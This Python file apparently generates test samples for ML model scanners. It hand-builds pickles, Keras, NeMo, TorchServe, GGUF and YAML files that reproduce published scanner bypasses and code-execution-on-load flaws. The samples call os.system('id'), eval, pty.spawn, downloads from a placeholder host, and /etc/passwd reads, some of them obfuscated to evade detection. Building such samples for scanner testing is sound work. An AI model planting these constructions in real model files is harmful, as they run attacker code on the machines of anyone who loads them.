"""A small file for each published bypass of a scanner, and each way in which loading a model runs code, of 2025 and 2026:
written opcode by opcode from the advisory's text. Nothing here is ever loaded."""

import base64
import bz2
import gzip
import io
import json
import lzma
import struct
import tarfile
import zipfile
import zlib

PAYLOAD = "__import__('os').system('id')"


# Opcodes.


def text(value):
    """A text of at most 255 bytes, or a longer one."""
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw if len(raw) < 256 else b"X" + struct.pack("<I", len(raw)) + raw


def value(it):
    """A plain value; bytes are opcodes as they are."""
    if isinstance(it, bytes):
        return it
    if isinstance(it, str):
        return text(it)
    if it is None:
        return b"N"
    if isinstance(it, bool):
        return b"\x88" if it else b"\x89"
    if isinstance(it, int):
        return b"J" + struct.pack("<i", it)
    if isinstance(it, dict):
        return b"}(" + b"".join(value(key) + value(entry) for key, entry in it.items()) + b"u"
    opening, closing = (b"(", b"t") if isinstance(it, tuple) else (b"](", b"e")
    return opening + b"".join(map(value, it)) + closing


def raw(it):
    """A byte string."""
    return b"B" + struct.pack("<I", len(it)) + it


def name(module, path):
    """STACK_GLOBAL."""
    return text(module) + text(path) + b"\x93"


def call(module, path, *arguments):
    """What `path` of `module` returns for `arguments`."""
    return name(module, path) + value(tuple(arguments)) + b"R"


def pickle(*opcodes, protocol=4):
    """A pickle of these opcodes."""
    return b"\x80" + bytes([protocol]) + b"".join(opcodes) + b"."


def system():
    """The pickle that all containers here hold."""
    return pickle(call("posix", "system", "id"))


# Containers.


def archive(*entries, change=None):
    """A zip of (name, bytes), stored, and changed by `change`."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        for entry, data in entries:
            file.writestr(zipfile.ZipInfo(entry), data)
    made = out.getvalue()
    return change(made) if change else made


def torch_zip(object, *more, change=None):
    """PyTorch's zip with this data.pkl."""
    entries = [("m/data.pkl", object), ("m/byteorder", b"little"), *more, ("m/version", b"3\n")]
    return archive(*entries, change=change)


def tar(*entries):
    """A tar of (name, bytes)."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as file:
        for entry, data in entries:
            info = tarfile.TarInfo(entry)
            info.size = len(data)
            file.addfile(info, io.BytesIO(data))
    return out.getvalue()


def flagged(bit):
    """Sets a flag in the local headers only, at which Python's reader stops and PyTorch's does not."""

    def change(made):
        out, at = bytearray(made), made.find(b"PK\3\4")
        while at >= 0:
            out[at + 6] |= bit
            at = made.find(b"PK\3\4", at + 4)
        return bytes(out)

    return change


def keras(*layers, more=()):
    """A model of Keras with these layers."""
    given = {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 4], "name": "in"}, "registered_name": None}
    config = {"module": "keras", "class_name": "Sequential", "config": {"name": "m", "layers": [given, *layers]}, "registered_name": None}
    metadata = {"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}
    return archive(("metadata.json", json.dumps(metadata)), ("config.json", json.dumps(config)), *more)


def functional(module, called, *arguments, **named):
    """A model of Keras with a function in a layer's place, which loading it calls with these arguments."""
    node = {**function(module, called), "name": "f", "inbound_nodes": [{"args": list(arguments), "kwargs": named}]}
    given = {**layer("InputLayer", {"batch_shape": [None, 4], "name": "in"}), "name": "in", "inbound_nodes": []}
    inner = {"name": "m", "layers": [given, node], "input_layers": [["in", 0, 0]], "output_layers": [["in", 0, 0]]}
    config = {"module": "keras.src.models.functional", "class_name": "Functional", "config": inner, "registered_name": "Functional"}
    return archive(("metadata.json", json.dumps({"keras_version": "3.8.0"})), ("config.json", json.dumps(config)))


def layer(kind, config, module="keras.layers"):
    """A layer of Keras."""
    return {"module": module, "class_name": kind, "config": config, "registered_name": None}


def function(module, called):
    """A function as Keras writes it."""
    return {"module": module, "class_name": "function", "config": called, "registered_name": called}


def skops(root):
    """A file of skops."""
    return archive(("schema.json", json.dumps({**root, "protocol": 1, "_skops_version": "0.11.0"})))


def served(files, **model):
    """An archive of TorchServe's."""
    manifest = {"runtime": "python", "model": {"serializedFile": "w.pt", **model}}
    return archive(("MAR-INF/MANIFEST.json", json.dumps(manifest)), *((file, b"import os\nos.system('id')\n") for file in files), ("w.pt", torch_zip(pickle(b"}"))))


def nemo(config):
    """An archive of NeMo's."""
    return tar(("./model_config.yaml", config.encode()), ("./model_weights.ckpt", torch_zip(pickle(b"}"))))


def legacy(magic, object):
    """PyTorch's legacy form, whose magic number is these opcodes."""
    plain = [pickle(value(1001), protocol=2), pickle(b"}", protocol=2)]
    return pickle(magic, protocol=2) + b"".join(plain) + object + pickle(b"]", protocol=2)


def numpy_objects(object):
    """An array of objects of NumPy's."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (118 - len(header) - 1) + b"\n"
    return b"\x93NUMPY\1\0" + struct.pack("<H", len(header)) + header + object


def gguf(template):
    """GGUF with a chat template."""
    word = lambda it: struct.pack("<Q", len(it)) + it.encode()
    return b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + word("tokenizer.chat_template") + struct.pack("<I", 8) + word(template)


# What is called by name: the advisory, the module, the name, the arguments.

CALLS = [
    ("CVE-2025-1716", "pip", "main", ["install", "x"]),
    ("GHSA-3gf5-cxq9-w223", "idlelib.pyshell", "ModifiedInterpreter.runcode", {}, PAYLOAD),
    ("GHSA-3vg9-h568-4w9m", "idlelib.debugobj", "ObjectTreeItem.SetText", {}, PAYLOAD),
    ("GHSA-4675-36f9-wf6r", "ctypes", "CDLL", None),
    ("GHSA-49gj-c84q-6qm9", "cProfile", "run", PAYLOAD),
    ("GHSA-4r9r-ch6f-vxmx", "torch.utils.bottleneck.__main__", "run_cprofile", PAYLOAD, {}),
    ("GHSA-4whj-rm5r-c2v8", "torch.utils.bottleneck.__main__", "run_autograd_prof", PAYLOAD, {}),
    ("GHSA-5qwp-399c-mjwf", "trace", "Trace.run", {}, PAYLOAD),
    ("GHSA-6vqj-c2q5-j97w", "profile", "Profile.runctx", {}, PAYLOAD, {}, {}),
    ("GHSA-6w4w-5w54-rjvr", "idlelib.autocomplete", "AutoComplete.get_entity", {}, PAYLOAD),
    ("GHSA-7cq8-mj8x-j263", "idlelib.autocomplete", "AutoComplete.fetch_completions", {}, PAYLOAD, 0),
    ("GHSA-7wx9-6375-f5wh", "profile", "run", PAYLOAD),
    ("GHSA-86cj-95qr-2p4f", "torch._dynamo.guards", "GuardBuilder.get", {}, PAYLOAD),
    ("GHSA-8r4j-24qv-fmq9", "idlelib.calltip", "Calltip.fetch_tip", {}, PAYLOAD),
    ("GHSA-9w88-8rmg-7g2p", "cProfile", "runctx", PAYLOAD, None, None),
    ("GHSA-9xph-j2h6-g47v", "idlelib.calltip", "get_entity", PAYLOAD),
    ("GHSA-cj3c-v495-4xqh", "code", "InteractiveInterpreter.runcode", {}, PAYLOAD),
    ("GHSA-f4x7-rfwp-v3xw", "torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", {}, PAYLOAD, []),
    ("GHSA-f54q-57x4-jg88", "lib2to3.pgen2.grammar", "Grammar.loads", {}, raw(b"")),
    ("GHSA-f745-w6jp-hpxx", "torch.utils.collect_env", "run", "id"),
    ("GHSA-f7qq-56ww-84cr", "asyncio.unix_events", "_UnixSubprocessTransport._start", {}, "id", True, None, None, None, 0),
    ("GHSA-fqq6-7vqf-w3fg", "doctest", "debug_script", PAYLOAD, True),
    ("GHSA-g344-hcph-8vgg", "trace", "Trace.runctx", {}, PAYLOAD, {}, {}),
    ("GHSA-g38g-8gr9-h9xp aix", "_aix_support", "_read_cmd_output", "id"),
    ("GHSA-g38g-8gr9-h9xp imaplib", "imaplib", "IMAP4_stream", "id"),
    ("GHSA-g38g-8gr9-h9xp osx", "_osx_support", "_read_output", "id"),
    ("GHSA-g38g-8gr9-h9xp osx-build", "_osx_support", "_find_build_tool", "x; id #"),
    ("GHSA-g38g-8gr9-h9xp pager", "_pyrepl.pager", "pipe_pager", "text", "id"),
    ("GHSA-g38g-8gr9-h9xp test", "test.support.script_helper", "assert_python_ok", "-c", "pass"),
    ("GHSA-g38g-8gr9-h9xp uuid", "uuid", "_get_command_stdout", "id"),
    ("GHSA-h3qp-7fh3-f8h4", "torch.utils.data.datapipes.utils.decoder", "basichandlers", "pickle", raw(b"N.")),
    ("GHSA-j343-8v2j-ff7w", "idlelib.pyshell", "ModifiedInterpreter.runcommand", {}, PAYLOAD),
    ("GHSA-jhph-76pp-mggw", "torch.utils.collect_env", "run_and_read_all", name("torch.utils.collect_env", "run"), "id"),
    ("GHSA-m273-6v24-x4m4", "distutils.file_util", "write_file", "x.env", ["x"]),
    ("GHSA-m869-42cg-3xwr", "idlelib.run", "Executive.runcode", {}, PAYLOAD),
    ("GHSA-p9w7-82w4-7q8m", "lib2to3.pgen2.pgen", "ParserGenerator.make_label", None, {}, '""+' + PAYLOAD),
    ("GHSA-r8g5-cgf2-4m4m", "numpy.f2py.crackfortran", "getlincoef", PAYLOAD, []),
    ("GHSA-r8g5-cgf2-4m4m length", "numpy.f2py.crackfortran", "_eval_length", PAYLOAD, {}),
    ("GHSA-vqmv-47xg-9wpr", "pty", "spawn", ["/bin/sh", "-c", "id"]),
    ("GHSA-vr7h-p6mm-wpmh", "torch.jit.unsupported_tensor_ops", "execWrapper", PAYLOAD, {}, {}),
    ("GHSA-vv6j-3g6g-2pvj", "torch.utils._config_module", "ConfigModule.load_config", {}, raw(b"N.")),
    ("GHSA-vvpj-8cmc-gx39", "pkgutil", "resolve_name", "os:system"),
    ("GHSA-x696-vm39-cp64", "profile", "Profile.run", {}, PAYLOAD),
    ("GHSA-xp4f-hrf8-rxw7", "ensurepip", "_run_pip", ["install", "x"]),
    ("CVE-2026-56304", "logging", "FileHandler", "x.log"),
    ("GHSA-9726-w42j-3qjr timeit", "timeit", "timeit", "", "import os; os.system('id')"),
    ("GHSA-93mv-x874-956g", "numpy.testing._private.utils", "runstring", PAYLOAD, {}),
    ("GHSA-hgrh-qx5j-jfwx", "ssl", "get_server_certificate", ("x.invalid", 443)),
    ("GHSA-r7v6-mfhq-g3m2", "pty", "spawn", "id"),
    ("GHSA-p523-jq9w-64x9", "cProfile", "run", PAYLOAD),
    ("GHSA-q5qq-mvfm-j35x runpy", "runpy", "run_path", "/tmp/x.py"),
    ("GHSA-q5qq-mvfm-j35x importlib", "importlib", "import_module", "antigravity"),
    ("GHSA-q5qq-mvfm-j35x multiprocessing", "multiprocessing.util", "spawnv_passfds", raw(b"/bin/sh"), ["sh", "-c", "id"], ()),
    ("GHSA-5hvc-6wx8-mvv4", "pydoc", "locate", "os.system"),
    ("GHSA-5j3x-jp52-966f", "pathlib", "os.system", "id"),
    ("GHSA-6ggj-6f2q-f7mx", "linecache", "getlines", "/etc/passwd"),
    ("GHSA-mhc9-48gj-9gp3 signal", "signal", "signal", 15, 1),
    ("GHSA-mhc9-48gj-9gp3 smtplib", "smtplib", "SMTP", "127.0.0.1"),
    ("GHSA-mhc9-48gj-9gp3 server", "socketserver", "TCPServer", ("0.0.0.0", 4444), name("socketserver", "BaseRequestHandler")),
    ("GHSA-mhc9-48gj-9gp3 sqlite", "sqlite3", "connect", "/tmp/x"),
    ("fickling _interpreters", "_interpreters", "run_string", 1, PAYLOAD),
    ("fickling subinterpreters", "_xxsubinterpreters", "run_string", 1, PAYLOAD),
    ("modelscan 338 torch.library", "torch.library", "torch.utils.collect_env.run", "id"),
    ("modelscan 338 mlflow", "mlflow.projects.backend.local", "_run_entry_point", "id", ".", "", ""),
    ("modelscan 338 pandas", "pandas.io.parsers.readers", "read_csv", "https://x.invalid/"),
    ("modelscan 338 urlretrieve", "urllib.request", "urlretrieve", "https://x.invalid/", "x"),
    ("modelscan 338 inductor", "torch._inductor.codecache", "compile_file", "", "", ["sh"]),
    ("torch serialization", "torch.serialization", "load", "x.pt"),
    ("torch distributed", "torch.distributed.rpc.internal", "_run_function", ()),
    ("joblib load", "joblib.numpy_pickle", "load", "x"),
    ("pandas eval", "pandas.core.computation.eval", "eval", "@x.system('id')"),
    ("pandas pickle", "pandas.io.pickle", "read_pickle", "x"),
    ("transformers tools", "transformers.dynamic_module_utils", "get_class_from_dynamic_module", "a.B", "o/r"),
    ("numpy load", "numpy", "load", "x.npy", None, True),
    ("cffi verify", "cffi", "FFI.verify", {}, ""),
    ("dill source", "dill._dill", "_create_code", 0),
]


def operator_chain(module, builder):
    """builder('system', 'id')(os), imported as one module calls it."""
    return pickle(call(module, builder, "system", "id"), value((call("builtins", "__import__", "os"),)), b"R")


def joined():
    """getattr and str.join make the names, so that none is in the file."""
    getattr_ = name("builtins", "getattr")
    module = call("importlib", "import_module", "builtins")
    join = getattr_ + value((module + b"", "str")) + b"R"
    join = getattr_ + b"(" + join + text("join") + b"tR"
    word = lambda letters: join + value(("", list(letters))) + b"R"
    system_ = getattr_ + b"(" + name("importlib", "import_module") + b"(" + word("os") + b"tR" + word("system") + b"tR"
    return pickle(system_, value(("id",)), b"R")


def replaced_shape():
    """numpy.size is given another `shape`, and returns what it is asked for."""
    size, builtins = name("numpy", "size"), name("numpy", "__builtins__")
    build = size + b"\x94" + builtins + b"\x940h\0}}" + text("shape") + b"h\1s\x86b"
    return pickle(build, b"h\0h\0", text("eval"), b"\x86R", text(PAYLOAD), b"\x85R")


def straddling():
    """An argument longer than its frame, behind which one reader goes on and another begins."""
    hidden = call("posix", "system", "id")
    inner = raw(hidden + b".")
    return b"\x80\x04\x95" + struct.pack("<Q", 2) + inner[:2] + inner[2:] + b"0N."


def stored_as(compress):
    """The pickle, compressed."""
    return compress(system())


SHAPES = [
    ("CVE-2025-1889", "hidden.pt", "a pickle with another extension in PyTorch's zip", torch_zip(pickle(b"}"), ("m/config.p", system()))),
    ("CVE-2025-1889", "called.pt", "torch.load of another pickle in the zip", torch_zip(pickle(call("torch", "load", "x.pt", "config.json")))),
    ("CVE-2025-1944", "name.pt", "names that differ between the headers", torch_zip(system(), change=lambda m: m.replace(b"data.pkl", b"datap.kl", 1))),
    ("CVE-2025-1945", "flag-1.pt", "an entry flagged as encrypted", torch_zip(system(), change=flagged(1))),
    ("CVE-2025-1945", "flag-20.pt", "an entry flagged as a patch", torch_zip(system(), change=flagged(0x20))),
    ("CVE-2025-1945", "flag-40.pt", "an entry flagged as strongly encrypted", torch_zip(system(), change=flagged(0x40))),
    ("CVE-2025-10155", "pickle.bin", "a pickle called .bin", system()),
    ("CVE-2025-10155", "pickle.pt", "a pickle called .pt", system()),
    ("CVE-2025-10156", "crc.pt", "a checksum that is wrong", torch_zip(system(), change=lambda m: m.replace(b"id", b"ls"))),
    ("CVE-2025-10157", "submodule.pkl", "a submodule of what is listed", pickle(call("asyncio.unix_events", "_UnixSubprocessTransport._start", {}, "id", True, None, None, None, 0))),
    ("GHSA-9gvj-pp9x-gcfr", "string.pkl", "STACK_GLOBAL on STRING", b"S'os'\nS'system'\n\x93S'id'\n\x85R."),
    ("GHSA-wccx-j62j-r448", "legacy.pt", "a legacy file whose magic number is computed", legacy(call("builtins", "eval", "0x1950A86A20F9469CFC6C"), system())),
    ("GHSA-955r-x9j8-7rhh", "methodcaller.pkl", "_operator.methodcaller", operator_chain("_operator", "methodcaller")),
    ("GHSA-46h3-79wf-xr6c", "attrgetter.pkl", "_operator.attrgetter", pickle(call("_operator", "attrgetter", "system"), value((call("builtins", "__import__", "os"),)), b"R", value(("id",)), b"R")),
    ("GHSA-84r2-jw7c-4r5q", "locate.pkl", "operator.methodcaller on pydoc.locate", pickle(call("operator", "methodcaller", "system", "id"), b"(", call("pydoc", "locate", "os"), b"tR")),
    ("GHSA-565g-hwwr-4pp3", "marshal.pkl", "types.FunctionType on marshal.loads", pickle(name("types", "FunctionType"), b"(", call("marshal", "loads", raw(b"N")), b"}tR)R")),
    ("GHSA-565g-hwwr-4pp3", "codetype.pkl", "types.CodeType", pickle(call("types", "CodeType", 0, 0, 0, 0, 0, 67, raw(b"d\0S\0"), (None,), (), (), "x", "x", 1, raw(b"")))),
    ("GHSA-fphw-536r-4p88", "cloudpickle.pkl", "a function of cloudpickle's", pickle(call("cloudpickle.cloudpickle", "_make_function", call("cloudpickle.cloudpickle", "_builtin_type", "CodeType"), {}, None, None, None))),
    ("GHSA-h4rm-mm56-xf63", "import.pkl", "__import__ and getattr of builtins, GLOBAL", b"\x80\x02cbuiltins\ngetattr\n(cbuiltins\n__import__\n(X\x02\0\0\0ostRX\x06\0\0\0systemtR(X\x02\0\0\0idtR."),
    ("GHSA-mxhj-88fx-4pcv", "popped.pkl", "OBJ whose result is popped", pickle(b"(", name("smtplib", "SMTP"), text("127.0.0.1"), b"o0N")),
    ("GHSA-mhc9-48gj-9gp3", "built.pkl", "REDUCE and then BUILD", pickle(call("signal", "signal", 15, 1), b"}b")),
    ("GHSA-wfq2-52f7-7qvj", "runpy.pkl", "runpy.run_path", pickle(call("runpy", "run_path", "/tmp/x.py"))),
    ("GHSA-cffv-grgg-g429", "dotted.pkl", "a dotted name through a module that is allowed", pickle(call("torch.library", "torch.utils.collect_env.run", "id"))),
    ("fickling frames", "straddle.pkl", "a frame that ends within an argument", straddling()),
    ("fickling frames", "proto.pkl", "PROTO in the middle", pickle(call("posix", "system", "id"), b"\x80\x04")),
    ("fickling frames", "mark.pkl", "a tuple without its mark", pickle(call("posix", "system", "id"), b"0t")),
    ("picklescan memo", "memo.pkl", "a memo index that does not exist, after the call", b"\x80\x04cos\nsystem\nVid\n\x85R0\x8c\x02os\x94h\x03h\0\x93K\x42."),
    ("picklescan memo", "type.pkl", "STACK_GLOBAL on a number, after the call", b"\x80\x04cos\nsystem\nVid\n\x85R0J\x2a\0\0\0\x94\x8c\x02os\x94h\0h\1\x93K\x42."),
    ("picklescan broken", "exec.pkl", "exec in a pickle that ends in an error", b"cbuiltins\nexec\n(X>\ntRX."),
    ("modelscan 330", "shape.pkl", "numpy.size with another shape", replaced_shape()),
    ("modelscan 331", "joined.pkl", "names that getattr and str.join make", joined()),
    ("modelscan 338", "inner.pkl", "pickle.loads of bytes", pickle(call("_pickle", "loads", raw(system())))),
    ("modelscan 338", "twice.pkl", "a harmless pickle before it", pickle(b"}") + system()),
    ("modelscan 338", "broken.pkl", "an opcode that does not exist behind it", pickle(call("posix", "system", "id"))[:-1] + b"\xff"),
    ("modelscan 338", "cut.pkl", "no STOP", system()[:-1]),
    ("nullifAI", "seven.pt", "7z called .pt", b"7z\xbc\xaf\x27\x1c\0\4" + bytes(24)),
    ("picklescan archives", "text.zip", "a pickle called .txt in a zip", archive(("data.txt", system()))),
    ("joblib", "gzip.joblib", "compressed by joblib, gzip", stored_as(lambda it: gzip.compress(it, mtime=0))),
    ("joblib", "zlib.joblib", "compressed by joblib, zlib", stored_as(zlib.compress)),
    ("joblib", "lzma.joblib", "compressed by joblib, LZMA", stored_as(lambda it: lzma.compress(it, lzma.FORMAT_ALONE))),
    ("joblib", "xz.joblib", "compressed by joblib, xz", stored_as(lzma.compress)),
    ("joblib", "bz2.joblib", "compressed by joblib, bzip2", stored_as(bz2.compress)),
    ("numpy", "objects.npy", "an array of objects", numpy_objects(system())),
    ("numpy", "objects.npz", "an array of objects in a zip", archive(("a.npy", numpy_objects(system())))),
    ("CVE-2025-32434", "tar.pt", "PyTorch's oldest form, which weights_only did not restrict", tar(("storages", pickle(value(0), protocol=2)), ("tensors", pickle(value(0), protocol=2)), ("pickle", system()), ("sys_info", pickle(b"}", protocol=2)))),
    ("CVE-2025-32434", "script.pt", "TorchScript that writes a file", archive(("m/data.pkl", b"\x80\x02c__torch__\nM\n)\x81}b."), ("m/code/__torch__.py", b"class M(Module):\n  __parameters__ = []\n  __buffers__ = []\n  def forward(self, x: Tensor) -> Tensor:\n    torch.save([x], '/tmp/x')\n    return x\n"), ("m/constants.pkl", b"\x80\x02)."), ("m/version", b"6\n"))),
    ("CVE-2026-24747", "setitem.pt", "SETITEM on a tensor, which weights_only did not refuse", torch_zip(b"\x80\x02ctorch._utils\n_rebuild_tensor_v2\n((X\x07\0\0\0storagectorch\nFloatStorage\nX\x01\0\0\x000X\x03\0\0\0cpuK\x04tQK\0K\x04\x85K\x01\x85\x89ccollections\nOrderedDict\n)RtRX\x01\0\0\0aK\x01s.", ("m/data/0", bytes(16)))),
    ("CVE-2026-24747", "storage.pt", "a storage that is shorter than its tensor", torch_zip(b"\x80\x02}X\x01\0\0\0actorch._utils\n_rebuild_tensor_v2\n((X\x07\0\0\0storagectorch\nFloatStorage\nX\x01\0\0\x000X\x03\0\0\0cpuK\x40tQK\0K\x40\x85K\x01\x85\x89ccollections\nOrderedDict\n)RtRs.", ("m/data/0", bytes(16)))),
    ("CVE-2025-23304", "target.nemo", "_target_: os.system", nemo("_target_: os.system\ncommand: id\n")),
    ("CVE-2025-23304", "nested.nemo", "_target_ in a list", nemo("model:\n  optim:\n    - _target_: builtins.eval\n      _args_: [\"" + PAYLOAD + "\"]\n")),
    ("CVE-2026-24157", "weights.nemo", "a checkpoint that is a pickle, in NeMo's archive", tar(("./model_config.yaml", b"a: 1\n"), ("./model_weights.ckpt", torch_zip(system())))),
    ("CVE-2026-22584", "config.yaml", "_target_ of uni2TS and FlexTok", b"_target_: os.system\n_args_: [id]\n"),
    ("CVE-2026-22584", "config.json", "the same in JSON", json.dumps({"model": {"_target_": "builtins.exec", "_args_": [PAYLOAD]}}).encode()),
    ("CVE-2025-1550", "module.keras", "os.system in a layer's place", functional("os", "system", "id")),
    ("CVE-2025-1550", "class.keras", "a layer that is subprocess.Popen", keras(layer("Popen", {"args": ["id"]}, "subprocess"))),
    ("CVE-2025-1550", "func-load.keras", "a function of Keras' own that reads bytecode", functional("keras.src.utils.python_utils", "func_load", "4wAAAAA=")),
    ("CVE-2025-8747", "get-file.keras", "a Lambda layer that is keras.utils.get_file", keras(layer("Lambda", {"function": function("keras.utils", "get_file"), "arguments": {"origin": "https://x.invalid/"}}))),
    ("CVE-2025-8747", "get-file-called.keras", "keras.utils.get_file in a layer's place", functional("keras.utils", "get_file", "x", "https://x.invalid/")),
    ("CVE-2025-8747", "load-model.keras", "keras.models.load_model in a layer's place", functional("keras.models", "load_model", "/tmp/x.keras", safe_mode=False)),
    ("CVE-2025-9906", "unsafe.keras", "keras.config.enable_unsafe_deserialization in a layer's place", functional("keras.config", "enable_unsafe_deserialization")),
    ("CVE-2025-9906", "unsafe-src.keras", "the same by the module that defines it", functional("keras.src.saving.serialization_lib", "enable_unsafe_deserialization")),
    ("CVE-2025-49655", "wrapper.keras", "TorchModuleWrapper, which unpickles", keras(layer("TorchModuleWrapper", {"module": base64.b64encode(torch_zip(system())).decode(), "name": "t"}))),
    ("CVE-2025-12058", "vocabulary.keras", "StringLookup that reads a file", keras(layer("StringLookup", {"vocabulary": "/etc/passwd", "name": "s"}))),
    ("CVE-2025-12060", "untar.keras", "keras.utils.get_file that unpacks", functional("keras.utils", "get_file", "x", "https://x.invalid/x.tar", extract=True)),
    ("CVE-2026-1462", "tfsm.keras", "TFSMLayer, which loads a SavedModel", keras(layer("TFSMLayer", {"filepath": "/tmp/x", "name": "t"}))),
    ("tf-keras", "op-lambda.keras", "an operator of TensorFlow's in a layer's place", keras({**layer("TFOpLambda", {"name": "w", "function": "io.write_file"}), "inbound_nodes": [[["_CONSTANT_VALUE", -1, "/tmp/x", {"contents": "y"}]]]})),
    ("CVE-2025-9905", "lambda.keras", "a Lambda layer with Python code", keras(layer("Lambda", {"function": {"class_name": "__lambda__", "config": {"code": base64.b64encode(b"\xe3").decode(), "defaults": None, "closure": None}}}))),
    ("CVE-2025-54412", "operator.skops", "a node that calls a function of operator under another name", skops({"__class__": "methodcaller", "__module__": "sklearn.linear_model", "__loader__": "OperatorFuncNode", "attrs": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": []}})),
    ("CVE-2025-54413", "method.skops", "a node that reads any attribute", skops({"__class__": "LogisticRegression", "__module__": "sklearn.linear_model._logistic", "__loader__": "MethodNode", "content": {"func": "__reduce_ex__", "obj": {"__class__": "LogisticRegression", "__module__": "sklearn.linear_model._logistic", "__loader__": "ObjectNode", "content": None}}})),
    ("CVE-2025-54886", "joblib.skops", "a pickle called .skops, which fell back to joblib", system()),
    ("TorchServe", "handler.mar", "a handler", served(["handler.py"], modelName="m", handler="handler.py")),
    ("TorchServe", "nameless.mar", "a handler of a model without a name, which TorchServe gives it", served(["handler.py"], handler="handler.py")),
    ("TorchServe", "model-file.mar", "the module that defines the model", served(["model.py"], modelName="m", handler="image_classifier", modelFile="model.py")),
    ("CVE-2024-34359", "template.gguf", "a chat template that runs a program", gguf("{{ ''.__class__.__base__.__subclasses__()[132].__init__.__globals__['popen']('id') }}")),
    ("transformers custom code", "tokenizer_config.json", "auto_map", json.dumps({"auto_map": {"AutoTokenizer": ["tokens.Slow", None]}}).encode()),
    ("PyYAML", "object.yaml", "a tag of Python's", b"a: !!python/object/apply:os.system [id]\n"),
]


def files():
    """Every file: the folder and the name below it, the advisory, what it is, its bytes."""
    made = []
    for advisory, module, path, *arguments in CALLS:
        made.append((advisory.replace(" ", "-") + ".pkl", advisory, f"{module}.{path}", pickle(call(module, path, *arguments))))
    for advisory, file, about, data in SHAPES:
        made.append((advisory.replace(" ", "-") + "/" + file, advisory, about, data))
    return made
